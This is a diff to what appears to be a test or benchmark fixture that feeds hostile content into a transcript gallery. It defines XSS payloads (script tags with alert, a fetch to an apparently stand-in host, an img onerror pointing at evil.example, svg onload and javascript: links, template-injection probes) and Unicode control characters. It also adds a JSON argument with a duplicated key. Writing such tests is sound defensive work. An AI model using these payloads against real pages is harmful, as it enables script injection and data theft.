@@ -14,6 +14,8 @@ SCRIPT = "<script>alert('script ran'); document.title = 'owned'; fetch('http://e
 IMAGE = '<img src="http://evil.example/x.png" onerror="alert(\'image ran\')">'
 BREAKOUT = '</textarea></details></div>"\'><svg onload=alert(1)><a href="javascript:alert(2)">{{7*7}}{% raw %}'
 UNSEEN = "safe\u202eevil\u2066\x1b[31m\x00\u200bend"
+TWICE = json.dumps({"path": IMAGE})[:-1] + ', "path": "b"}'
+"""Arguments with a key twice."""
 NEEDLE = "the needle in the middle"
 
 DIFF = """diff --git a/bench.py b/bench.py
@@ -61,13 +63,26 @@ class GalleryBench(Bench):
                 ]
             )
         if shop.hostile:
+            first, second = shop.turns + 1, shop.turns + 2
             bad = f"{SCRIPT}\n{IMAGE}\n{BREAKOUT}\n{UNSEEN}"
             start = start.extend(
                 [
-                    {"role": "assistant", "content": bad, "tool_calls": [call(1, SCRIPT, json.dumps({IMAGE: bad}))]},
-                    {"role": "tool", "tool_call_id": "call_1", "content": f"{SCRIPT}{IMAGE}\n{output(shop.output)}"},
-                    {"role": "assistant", "content": "", "tool_calls": [call(2, "edit", f"{{not json {IMAGE}")]},
-                    {"role": "tool", "tool_call_id": "call_2", "content": '{"code": 1, "tail": [{"b": "\\u202e"}]}'},
+                    {
+                        "role": "assistant",
+                        "content": bad,
+                        "tool_calls": [call(first, SCRIPT, json.dumps({IMAGE: bad}))],
+                    },
+                    {
+                        "role": "tool",
+                        "tool_call_id": f"call_{first}",
+                        "content": f"{SCRIPT}{IMAGE}\n{output(shop.output)}",
+                    },
+                    {"role": "assistant", "content": "", "tool_calls": [call(second, "edit", TWICE)]},
+                    {
+                        "role": "tool",
+                        "tool_call_id": f"call_{second}",
+                        "content": '{"code": 1, "tail": [{"b": "\\u202e"}]}',
+                    },
                 ]
             )
         return start.extend([self._order(0)])
